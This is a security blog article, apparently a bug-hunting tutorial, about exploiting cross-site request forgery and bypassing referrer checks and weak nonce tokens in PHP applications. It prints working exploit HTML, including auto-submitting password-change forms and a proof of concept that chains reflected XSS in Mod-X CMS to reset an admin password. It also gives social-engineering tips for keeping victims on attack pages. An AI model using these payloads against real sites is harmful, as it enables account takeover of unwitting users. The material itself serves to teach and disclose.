Home / Blog / Discovering Modern CSRF Patch Failures

Discovering Modern CSRF Patch Failures

Basic Refresher

Cross-siterequest forgery (CSRF/XSRF) vulnerabilities allow an attacker to perform authenticated actions without authenticating as the user. The issue revolves around general browser architecture and its handling of the web origin policy[1]. In particular, issues stem from how it handles same origins and authority. Some of the issues can not be fixed in browsers as the real problem is how web applications handle actions. These vulnerabilities are easy to locate and perform attacks against whilst allowing an attacker to completely compromise an account and/or compromise the host.

The problem is seen when the browser has stored authentication data for the victimsite.com domain/origin. Data such as credential cookies, session cookies, basic/digest authorization depending on attack vector[8], and possibly other stored authentication data the browser manages. This data is used when another domain makes arequest for external resources like images, videos, scripts, etc. Here’s how html would be used to grab an image from victimsite.com and load it in attacksite.com’s origin:

<img src=”http://victimsite.com/img.jpg” />

When the user’s browser visits attacksite.com and sees this image tag then it will grab this resource by making the appropriate request for the client. Assume the user is logged in with an “authenticated=yes” cookie. A stripped down request for this image is:

GET /img.jpg HTTP/1.1
Cookie: authenticated=yes
Host: victimsite.com

The authenticated cookie for victim site is added by the browser when making the request for victimsite.com/img.jpg. This allows us to perform authenticated actions without ever having to authenticate ourselves. Read further for theoretical and real-world exploits on how this behavior can be abused. The focus of this article will be around the php language, but csrf issues exist throughout other languages.

Remote Vector

The easiest way to exploit this issue is with cross-origin communication as seen with the previoussection’s attacksite.com and victimsite.com image scenario. Please re-read that section if you do not understand how a remote vector (different origin) would work.

Local Vector

While the name does say cross-site, the vulnerability can be exploited in the context of the same origin and never require access to resources from another origin. This is possible by chaining other exploitslike cross-site scripting (XSS), which will be covered more later, or simply abusing any form of valid injection points. Think about forums or blogs where you have the ability to upload avatars from a supplied url or use bbcode (bulletin board code, a markup language for forums)[11] to display images or movies in comments.

There is plenty of documentation explaining these fundamental concepts more in depth[10], but the focus is on ways to exploit the issues and bypass modern protections against them. See references in the end for further information.


The GET method in HTTP allows for many options to exploit CSRF vulnerabilities. Here’s an example form to change a user’s password:

<form action=”changepass.php” method=”GET” name=”changepassform”> Username: <input type=”text” value=”” name=”user” />
Password: <input type=”password” value=”” name=”pass” />
<input type=”submit” value=”submit” /></form>

If we make a request for this page attempting to login as the user admin with the password of changeme, the request would be:

GET /changepass.php?user=admin&pass=changeme&submit=submit HTTP/1.1
Cookie: authenticated=yes
Host: victimsite.com

Look at how this request compares to the request for the image seen in the previous section. What happens if html were used as such:

<img src=”http://victimsite.com/changepass.php?user=admin&pass=changeme&submit=submit”/>

Once the victim’s browser attempts to grab this resource, they will make the full request with their authentication data, in this example the authenticated cookie. Such behavior allows an attacker to change the victim’s password with an image that will not display (unless src is dynamically switched with a real one).

This attack vector is common in today’s web applications and massive lists of unreported vulnerabilities exist for popular content management systems. This is a perfect opportunity for the beginning bug hunter.


When CSRF vulnerabilities gained public attention, a lot of people decided that simply changing the form method from GET to POST would secure them against this attack. Of course, this is not true and takes little more effort to exploit CSRF via POST. So, how would an attacker go about exploiting a form using the POST method? Let’s take our example form and use the POST method:

<form action=”changepass.php” method=”POST” name=”changepassform”>
Username: <input type=”text” value=”” name=”user” />
Password: <input type=”password” value=”” name=”pass” />
<input type=”submit” value=”submit” /></form>

 You may ask yourself how do we fill in the appropriate input values and get the user to submit the form? Most browsers have a powerful and popular client-side language readily available to use. That language is Javascript and it will allow us to use the DOM (Document Object Model)[9] to submit the form and then use event handlers to do so whenthe page loads. Let’s take a look at one line that will allow us to automatically submit the form on page load:

<body onload=’document.changepassform.submit();’>

Once the body of the page finishes loading (form is created and accessible) the onload event triggers and submits the document’s (page) form called changepassform. All we need to do is write the values for the user input. Here is how the finished exploit would look like if we wanted to change the password for the user, admin, to changeme.

<html><body onload=’document.changepassform.submit();’>
<form action=”changepass.php” method=”POST” name=”changepassform”>
Username: <input type=”text” value=”admin” name=”user” />
Password: <input type=”password” value=”changeme” name=”pass” />
<input type=”submit” value=”submit” /></form></body></html>

This is usually exploited from another domain, but it is still very possible to exploit the issue locally. A fun trick is to attempt to request the page with GET instead of POST and see if it still executes the action. While the client-side may say POST, the server-side may not care what method is used and let a GET method perform the action. This is caused by $_REQUEST being used and allowing any method of user supplied data to fill the requirement. Let’s take a look at a real vulnerability I found in Kryn CMS:


Even if the application enforces POST, we can still abuse othervectors to plant the script into the page and exploit the issue locally. Our friend here will be reflective XSS, but anykind of script injection vulnerability will work.

Security Attempts

There exist a lot of different patch attempts to secure against CSRF vulnerabilities. I personally have seen quiet a few strange patch attempts because the developers did not understand the full depth of attack vectors, such as changing the form method from GET to POST. I’ve seen developers think the only exploitation vector was locally with an image and they would be secure by enforcing extension checking and character restrictions on forum bbcode that allowed the display of images. Even locally the issue still existed and could be exploited as other tags referenced external resources. The remote attack vector also remained completely untouched.

Next, some of the most common protections you will see implemented today will be discussed. These protections are referrer/location checking, captchas (out of the scope of this document), and nonce tokens. We will start with the defense that’s the most straightforward to bypass, referrer checking.

Referrer Checking

The referrer checking security mechanism is for protection from remote attack vectors. The ideais that the request has to come from the same domain that they are attempting the actions on. If it does not, the referrer check will fail and alert the application the request came from outside of a valid domain. To show you a real-world example, let’s take a look at some vulnerabilities I found in Mod-X CMS:


The referrer protection check seen inMod-X was:

if (!empty($referer)) { if (!preg_match(‘/^’.preg_quote(MODX_SITE_URL,‘/’).’/i’, $referer)) {

MODX_SITE_URL is globally defined and you can think of it as the domain that Mod-X is running on. The regex is saying it must start with the defined domain name (victimsite.com) and end
in /. This start and end value checks prevent someone from creating victimsite.comp.attackersite.com to bypass the check. $referer is a variable holding the global php variable $_SERVER[‘HTTP_REFERER’];. Now, if the referrer is not empty andcontains the domain name, then the referrer is validated.

This protection can be effective, but definitely not a panacea.Old bugs in places like xmlhttprequest and flash/java allowed you to set the referrer header across origins for the request on behalf of the user[6]. However, these have been taken care of long ago so we will need a more globally acceptable and modern solution. We come back to our old friend XSS.

Through reflective XSS, we have the ability to inject our script into the page. We can use an iframe pointing to XSS that submits the vulnerable form. This type of attack chain can be used to bypass nonce tokens and practically any other form of security surrounding it. Here’s the proof-of-concept exploit abusing the Mod-X vulnerabilities:

<iframe src=”http://victimsite.com/manager/media/ImageEditor/editor.php?img=</title></head><body onload=’document.formcool.submit();’><form name=’formcool’ method=’POST’ action=’http://victimsite.com/manager/index.php?a=34′><input type=’hidden’name=’id’ value=”><input type=’hidden’ name=’pass1′ value=’admin2′ /><input type=’hidden’ name=’pass2′ value=’admin2′ /><input type=’submit’ name=’save’ value=’Submit+Query’ /></form>” />

The iframe points to an XSS injection found in the img variable of editor.php. It then injects the vulnerable form (password change) and the form submitting javascript into the page. Once the iframe loads, the injection will submit inside of victimsite.com’s origin on behalf of the victim visiting attackersite.com. Because the javascript is submitting from the victimsite.com domain, the referrer checking is bypassed. In this proof of concept, the iframe is not stealthy at all and you would find this hidden if not removed dynamically after success.

Improper Nonce Entropy

Now let’s discuss the most common and known form of defense for CSRF vulnerabilities, nonce tokens. The idea is to use a pseudo-random number used only once, or what’s commonly known as nonce, as a hidden field for the form submission. Some security stipulations are that it’s generated with a secure form of entropy, implemented appropriately, and also validated by the server.

 A nonce is a number that is only generated once and acts as a unique token for the user action.

The nonce is then added to a hidden input field for each form that should require a point of validation before action. Once the form is submitted, the server-side language needs to check if the token is correct. If the token is not valid, the request is not processed. Taking our example password change form, let’s add the hidden nonce check:<form action=”changepass.php” method=”POST” name=”changepassform”>
Username: <input type=”text” value=”” name=”user” />
Password: <input type=”password” value=”” name=”pass” />
<input type=”hidden” value=”3c8376f8198cd374” name=”token” />
<input type=”submit” value=”submit” /></form>

The value for the hidden token field (3c8376f8198cd374) is where the randomly generated nonce will be placed for each user action. However, there isn’t a simple function like token() to generate secure entropy for the nonce. Because there is no standard function to generatethis token, there ends up being several different homegrown solutions for creating and managing the tokens.

The starting tactic I use when checking for weak entropy is to generate a massive amount of the tokens quickly and see how random it really is across the large data set. When performing these requests, be careful because you may DoS the server. Additionally, alarms may be triggered that gets your ip blocked. This test is a tradeoff with the time you have and how thorough you want to check this vector. You may want to do quick bursts to different pages with available tokens on a random time limit between minimum and maximum (5-30 seconds). The speed is important to check for weak time- based entropy or possible entropy source saturation issues.

If you notice the randomization starts off great, then gets weaker later on, you may be saturating or havesaturated the entropy source. From here you can abuse the entropy source before you attempt to narrow down the victim’s nonce. However, it’s rare to see such a poor implementation or entropy reduction attack. Instead, let’s talk about patterns for weak algorithms.

Check and see if the nonce value is randomized all the time, random for one action, or random persession. I’ve seen implementations where the nonce is generated until used or a hashed session id is used until a new one is generated on next login or timeout period. Then see what the length is and the character set being used. Is it 4 characters long and only using 0-9 for a character set? Are there static characters being used? Maybe only the least or most significant 4 characters of 16 are actually randomized and the rest is based on a unique value, but not by user, where you can request your own token and then bruteforce the 4 missing characters. You may find such algorithms where a token uses date(), hour/minute on time(), and other known and slower changing values. These types of algorithms will allow for a more reliable bruteforce attack against them.

Conducting bruteforce attacks may end up being a bit complicated and/or not very reliable. Your goal is to get the victim to stay on your site for long enough to generate a valid token for the victim. Techniques for keeping the victim on the attacker’s site mostly involve either direct or generic social engineering. Proof of concepts usually involve game sites (page change in the site should not stop the attack) where the victim can play games while being exploited. Porn websites are a common distribution point used often in real-world exploitation. The most effective will be a targeted and specially crafted page after researching wanted victim’s interests (spear phishing).

